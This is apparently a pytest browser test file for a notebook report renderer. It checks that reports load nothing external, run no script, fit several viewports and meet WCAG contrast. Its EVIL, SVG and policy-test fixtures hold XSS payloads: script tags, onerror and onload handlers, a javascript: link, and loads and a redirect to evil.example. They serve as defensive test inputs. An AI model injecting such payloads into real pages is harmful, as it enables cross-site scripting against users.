"""The report in a real browser: it loads nothing, runs nothing, and fits the screen."""

import base64
import json
from pathlib import Path
from typing import Any

import great_tables
import polars as pl
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from workbench import records
from workbench.reporting.html import render
from workbench.reporting.index import write_index

pytestmark = pytest.mark.browser
EVIL = (
    "<script>window.pwned=1;alert(1)</script><img src=x onerror='window.pwned=1;alert(2)'>"
    "<svg onload=window.pwned=1></svg><a href='javascript:window.pwned=1'>x</a></pre></style>"
    "<script src=https://evil.example/x.js></script><style>*{background:url(https://evil.example)}"
    "</style><meta http-equiv=refresh content='0;url=https://evil.example'>"
)
SVG = (
    "<svg xmlns='http://www.w3.org/2000/svg' width='620' height='220'><script>window.pwned=1;"
    "alert(3)</script><image href='https://evil.example/i.png'/><rect width='9' height='9'/></svg>"
)


def page_of(value: str) -> str:
    frame = pl.DataFrame(
        {f"COLUMN_{i}_{value}"[:60]: [f"17734072432755{i}"] * 3 for i in range(18)}
    )
    table = great_tables.GT(frame).tab_header(value or "All", value or "rows")
    html = {"text/html": table._repr_html_()}
    chart = {"image/svg+xml": SVG}
    outputs = [
        *(new_output("display_data", data=data) for data in (html, chart, {"text/html": value})),
        new_output("display_data", data={"text/html": frame._repr_html_()}),
        *(
            new_output("display_data", data={mime: {"name": value, "message": value + "w" * 300}})
            for mime in (records.VALIDATION, records.WARNING, records.NOTE)
        ),
        new_output("stream", name="stdout", text=value + "wide " * 300 + "x" * 500),
        new_output("error", ename=value, evalue=value + "y" * 300, traceback=[value]),
    ]
    long_name = "averyveryveryveryverylongparametername" * 3
    run = {
        "status": "error",
        "name": value or "name",
        "started": "2026-11-21T06:15:02Z",
        "error": {
            "cell": 1,
            "name": "E",
            "message": value + "z" * 300,
            "traceback": value,
            "last_words": value,
        },
        "warnings": [{"cell": 1, "message": f"w{value}" + "z" * 300}],
        "validations": [
            {
                "name": f"{value}n" * 9,
                "passed": False,
                "severity": kind,
                "message": value + "z" * 200,
            }
            for kind in ("critical", "warning")
        ],
        "parameters": {long_name: "v" * 200, value: value},
        "figures": [{"name": value or "n" * 80, "value": 10**24, "unit": "u" * 40, "previous": 1}],
        "compared_to": {"run_id": value or "r" * 90, "chosen": True},
        "versions": {"workbench": "0.1.0" * 40},
    }
    sections = [new_markdown_cell(f"## Section {i}\n\n{value}") for i in range(12)]
    code = new_code_cell("x = 1 " * 100, outputs=outputs, execution_count=1)
    cells = [new_markdown_cell(f"# Title {value}"), code, *sections, new_code_cell("never")]
    return render(new_notebook(cells=cells), run)


@pytest.fixture(scope="module")
def files(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("pages")
    for name, value in (("plain", ""), ("hostile", EVIL)):
        (folder / f"{name}.html").write_text(page_of(value), "utf-8")
    add_run(folder / "reports", "a b", 1, status="passed")
    (folder / "reports" / "a b" / "r1" / "report.html").write_text(page_of(""), "utf-8")
    for number, status in enumerate(("error", "data-failed", "surprise", EVIL, "running"), 2):
        add_run(folder / "reports", f"c{number}", number, name=EVIL, status=status)
    for number in range(1, 31):
        add_run(folder / "many", f"colors sector={number % 3}", number, status=STATUSES[number % 3])
    found = {path.stem: path for path in folder.glob("*.html")}
    indexes = {name: write_index(folder / name) for name in ("reports", "many")}
    return {**found, "index": indexes["reports"], "many": indexes["many"]}


STATUSES = ("passed", "error", "timeout")


def add_run(root: Path, folder: str, number: int, **told: object) -> None:
    run = root / folder / f"r{number}"
    run.mkdir(parents=True)
    (run / "report.html").write_text("report")
    figure = {"name": told.get("name", "n"), "value": number, "unit": told.get("name")}
    content = {"name": folder, "started": f"2026-11-{number:02d}", "figures": [figure], **told}
    (run / "run.json").write_text(json.dumps(content))


VIEWS = [
    *((width, scheme, "screen") for width in (390, 1280, 1920) for scheme in ("light", "dark")),
    (800, "light", "print"),
]


@pytest.mark.parametrize("name", ["plain", "hostile", "index", "many"])
def test_page_loads_and_runs_nothing_and_fits(
    browser: Any, files: dict[str, Path], name: str
) -> None:
    address = files[name].as_uri()
    requests: list[str] = []
    noise: list[str] = []
    page = browser.new_page()
    page.on("request", lambda request: requests.append(request.url))
    page.on("console", lambda message: noise.append(message.text))
    page.on("pageerror", lambda error: noise.append(str(error)))
    page.on("dialog", lambda dialog: (noise.append("dialog"), dialog.dismiss()))
    for width, scheme, medium in VIEWS:
        page.set_viewport_size({"width": width, "height": 800})
        page.emulate_media(color_scheme=scheme, media=medium)
        page.goto(address)
        page.wait_for_load_state("load")
        assert page.evaluate("window.pwned") is None
        root = "document.documentElement"
        if medium == "screen":
            assert page.evaluate(f"{root}.scrollWidth <= {root}.clientWidth"), width
        assert page.locator("h1").is_visible()
    assert {url for url in requests if not url.startswith("data:")} == {address}
    assert noise == []
    page.close()


def test_charts_show_code_is_folded_and_dark_is_dark(browser: Any, files: dict[str, Path]) -> None:
    page = browser.new_page(color_scheme="dark")
    page.goto(files["plain"].as_uri())
    assert page.evaluate("[...document.images].every(i => i.naturalWidth > 0)")
    assert page.evaluate("document.images.length") == 1
    code = page.locator("details.code code").first
    assert not code.is_visible()
    page.locator("details.code summary").first.click()
    assert code.is_visible()
    ground = page.evaluate("getComputedStyle(document.documentElement).backgroundColor")
    assert max(map(int, ground[4:-1].split(","))) < 60
    page.emulate_media(media="print")
    assert not code.is_visible()
    assert not page.locator("nav").is_visible()
    page.close()


def test_keyboard_reaches_content_first(browser: Any, files: dict[str, Path]) -> None:
    page = browser.new_page()
    page.goto(files["plain"].as_uri())
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.textContent") == "Skip to content"
    page.keyboard.press("Enter")
    assert page.evaluate("document.activeElement.id") == "main"
    page.close()


def test_a_link_of_the_index_opens_the_report(browser: Any, files: dict[str, Path]) -> None:
    page = browser.new_page()
    page.goto(files["index"].as_uri())
    page.get_by_role("link", name="a b").first.click()
    page.wait_for_load_state("load")
    assert page.url.endswith("/a%20b/r1/report.html")
    page.close()


def shown(page: Any) -> int:
    return page.locator(".runs tbody tr:visible").count()


def test_the_index_is_filtered_by_name_and_status_and_linked_to(
    browser: Any, files: dict[str, Path]
) -> None:
    noise: list[str] = []
    page = browser.new_page()
    page.on("console", lambda message: noise.append(message.text))
    page.on("pageerror", lambda error: noise.append(str(error)))
    address = files["many"].as_uri()
    page.goto(address)
    count = page.get_by_role("status")
    assert (shown(page), count.text_content()) == (30, "All 30 runs are shown")
    page.get_by_label("Name").fill("SECTOR=1")
    assert (shown(page), count.text_content()) == (10, "10 of 30 runs are shown")
    page.get_by_label("Status").select_option("timeout")
    assert shown(page) == 0
    page.get_by_label("Name").fill("sector=2")
    assert shown(page) == 10
    assert page.url == f"{address}#name=sector%3D2&status=timeout"
    # The address leads there again, from elsewhere and in the open page.
    page.goto("about:blank")
    page.goto(f"{address}#name=sector%3D2&status=timeout")
    assert shown(page) == 10
    assert page.get_by_label("Name").input_value() == "sector=2"
    page.evaluate("location.hash = 'status=error'")
    page.wait_for_function("document.getElementById('by-name').value === ''")
    assert shown(page) == 10
    page.evaluate("location.hash = 'main'")  # the link to the content is no filter
    assert shown(page) == 10
    page.evaluate("location.hash = 'status=nonsense'")
    page.wait_for_function("document.getElementById('by-status').value === ''")
    assert shown(page) == 30
    page.get_by_label("Name").focus()
    page.keyboard.type("none such")
    assert (shown(page), count.text_content()) == (0, "0 of 30 runs are shown")
    assert noise == []
    page.close()


def test_the_policy_of_the_index_lets_no_other_script_run(
    browser: Any, files: dict[str, Path], tmp_path: Path
) -> None:
    content = files["many"].read_text("utf-8")
    other = "<script>window.pwned = 1</script><img src=x onerror='window.pwned = 1'>"
    (tmp_path / "index.html").write_text(content.replace("<h1>", f"{other}<h1>"), "utf-8")
    page = browser.new_page()
    page.goto((tmp_path / "index.html").as_uri())
    assert page.get_by_role("status").text_content() == "All 30 runs are shown"
    assert page.evaluate("window.pwned") is None
    page.close()


def test_without_scripts_the_index_is_whole_and_offers_no_filter(
    browser: Any, files: dict[str, Path]
) -> None:
    page = browser.new_page(java_script_enabled=False)
    page.goto(files["many"].as_uri())
    assert shown(page) == 30
    assert not page.get_by_label("Status").is_visible()
    page.close()


def contrast(first: str, second: str) -> float:
    def luminance(colour: str) -> float:
        parts = [int(part) / 255 for part in base64.b16decode(colour[1:].upper())[:3]]
        linear = [c / 12.92 if c <= 0.03928 else ((c + 0.055) / 1.055) ** 2.4 for c in parts]
        return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]

    low, high = sorted([luminance(first), luminance(second)])
    return (high + 0.05) / (low + 0.05)


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_colours_meet_wcag_aa(browser: Any, files: dict[str, Path], scheme: str) -> None:
    page = browser.new_page(color_scheme=scheme)
    page.goto(files["plain"].as_uri())

    def colour(name: str) -> str:
        style = "getComputedStyle(document.documentElement)"
        value = page.evaluate(f"{style}.getPropertyValue('--{name}').trim()")
        return value if len(value) == 7 else "#" + "".join(c * 2 for c in value[1:])

    pairs = [(tone, f"{tone}-bg") for tone in ("good", "warn", "bad", "mute")]
    pairs += [(ink, ground) for ink in ("ink", "mute", "link") for ground in ("bg", "panel")]
    pairs += [("ink", f"{tone}-bg") for tone in ("good", "warn", "bad", "mute")]
    pairs += [(tone, ground) for tone in ("good", "warn", "bad") for ground in ("bg", "panel")]
    pairs += [("warn", "bad-bg"), ("warn", "mute-bg"), ("link", "bad-bg"), ("link", "warn-bg")]
    for ink, ground in pairs:
        assert contrast(colour(ink), colour(ground)) >= 4.5, (ink, ground)
    page.close()
